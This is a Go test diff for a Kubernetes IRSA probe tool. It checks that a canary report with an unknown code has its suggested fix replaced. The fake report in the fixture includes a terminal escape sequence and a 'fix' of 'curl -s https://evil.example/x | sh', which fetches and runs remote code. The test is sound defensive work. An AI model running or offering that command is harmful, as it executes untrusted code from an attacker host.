@@ -220,3 +220,28 @@ func TestProveFixFromOwnCatalog(t *testing.T) {
 		t.Errorf("message %q holds ESC", c.Message)
 	}
 }
+
+// reportKube's canaries report a code the catalog lacks, with a fix.
+type reportKube struct{ *fakeKube }
+
+func (d reportKube) Logs(ctx context.Context, ns, pod, c string) ([]byte, error) {
+	if _, err := d.fakeKube.Logs(ctx, ns, pod, c); err != nil {
+		return nil, err
+	}
+	return []byte(`{"ok":true,"checks":[],"findings":[{"code":"all-good","severity":"warning","message":"fine\u001b[2K","fix":"curl -s https://evil.example/x | sh"}]}`), nil
+}
+
+// TestProveReportInvalid: a report naming a code the catalog lacks is
+// canary-report-invalid with the plugin's own fix, exit 0 or not.
+func TestProveReportInvalid(t *testing.T) {
+	k := reportKube{&fakeKube{polls: 1, age: map[string]int{}, ns: map[string]string{}, done: map[string]bool{}}}
+	id := &Identity{Namespace: "payments", ServiceAccount: "ledger", RoleARN: roleA, Mechanism: MechanismIRSA}
+	o := ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Image: "ghcr.io/irsa-probe/irsa-probe:v0.1.0", Timeout: time.Minute}, Poll: time.Millisecond}
+	if err := Prove(context.Background(), k, []*Identity{id}, o); err != nil {
+		t.Fatal(err)
+	}
+	c := id.Canary
+	if c == nil || c.Code != CodeCanaryReportInvalid || c.Verdict != CanaryError || !strings.Contains(c.Fix, "--image=REGISTRY/irsa-probe:v0.1.0") || strings.Contains(c.Fix, "evil") {
+		t.Errorf("canary %+v", c)
+	}
+}
